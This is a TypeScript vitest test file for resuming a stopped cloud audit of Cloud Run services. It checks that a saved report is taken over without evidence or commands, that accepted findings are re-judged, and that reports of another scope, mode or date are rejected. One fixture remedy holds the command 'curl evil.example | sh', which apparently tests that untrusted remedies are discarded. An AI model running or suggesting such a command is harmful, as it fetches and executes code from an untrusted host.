/** What a stopped audit has left, in a file that anybody could have written. */
import fc from 'fast-check'
import { expect, it } from 'vitest'
import { stoppedBefore, wholeAudit } from '../../../../src/decisions/audit/resume.ts'
import type { Finding } from '../../../../src/model.ts'

const SCOPE = 'organizations/9'
const NOW = Date.parse('2027-01-02T12:00:00Z')
const AFTER = '//run.googleapis.com/projects/p/locations/l/services/m'
const finding = (name: string, more: Partial<Finding> = {}): Finding => ({
  ...{ id: 'audit-public', status: 'fail', severity: 'high', field: 'invokerIamDisabled', reason: 'Why.' },
  resource: `//run.googleapis.com/projects/p/locations/l/services/${name}`,
  evidence: [{ call: 'GET x', resource: '', answer: 'y' }],
  remedies: [{ kind: 'gcloud', title: 'Do', text: 'curl evil.example | sh' }],
  ...more,
})
const report = (audit: object = {}, findings: unknown = [finding('a')]) => ({
  ...{ mode: 'drift', target: { scope: SCOPE }, findings },
  audit: { services: 3, public: 1, after: AFTER, began: '2027-01-02T00:00:00.000Z', ...audit },
})

it('takes over what comes before the name, without commands and evidence', () => {
  const node = finding('', { resource: '//cloudresourcemanager.googleapis.com/projects/p' })
  const unconfirmed = { ...finding('b'), severity: undefined }
  const found = stoppedBefore(report({}, [finding('a'), finding('z'), node, unconfirmed, null]), SCOPE, NOW, true)
  expect(found?.findings.map(({ resource = '' }) => resource.split('/').at(-1))).toEqual(['a'])
  expect(found?.findings[0]).toMatchObject({ status: 'fail', evidence: [], remedies: [] })
  expect(found?.counts).toMatchObject({ services: 3, public: 1, jobs: 0 })
})

it('a finding that was accepted is judged again', () => {
  const accepted = finding('a', { status: 'skipped', reason: 'Why. Accepted until 2027-03-01: agreed.' })
  const [found] = stoppedBefore(report({}, [accepted]), SCOPE, NOW, false)?.findings ?? []
  expect(found).toMatchObject({ status: 'warn', reason: 'Why.' })
})

it('what is found again stands once, as it is now', () => {
  const before = stoppedBefore(report({}, [finding('a'), finding('b')]), SCOPE, NOW, true)
  const progress = { before, began: '2027-01-02T00:00:00.000Z', kept: true }
  const counts = { services: 1, functions: 0, jobs: 0, workerPools: 0, public: 1, oidc: 0, internal: 0 }
  const whole = wholeAudit(progress, { findings: [finding('a', { reason: 'Now.' })], counts })
  expect(whole.findings.map(({ reason }) => reason)).toEqual(['Now.', 'Why.'])
  expect(whole.counts).toMatchObject({ services: 4, public: 2, began: progress.began })
})

it.each<[string, unknown]>([
  ['of another scope', { ...report(), target: { scope: 'organizations/8' } }],
  ['of a deploy', { ...report(), mode: 'deploy' }],
  ['that was complete', report({ after: undefined })],
  ['of the day before', report({ began: '2027-01-01T11:59:59Z' })],
  ['of the future', report({ began: '2027-01-02T12:00:01Z' })],
  ['without a date', report({ began: 'x' })],
  ['without findings', report({}, 7)],
])('does not go on with a report %s', (_, previous) => {
  expect(stoppedBefore(previous, SCOPE, NOW, true)).toBeUndefined()
})

it('takes any JSON', () => {
  const findings = fc.array(
    fc.oneof(fc.jsonValue(), fc.record({ id: fc.constant('audit-public'), severity: fc.jsonValue() })),
  )
  fc.assert(
    fc.property(fc.jsonValue(), findings, fc.jsonValue(), (any, some, count) => {
      expect(stoppedBefore(any, SCOPE, NOW, true)).toBeUndefined()
      expect(stoppedBefore(report({ services: count }, some), SCOPE, NOW, true)?.findings).toBeDefined()
    }),
  )
})
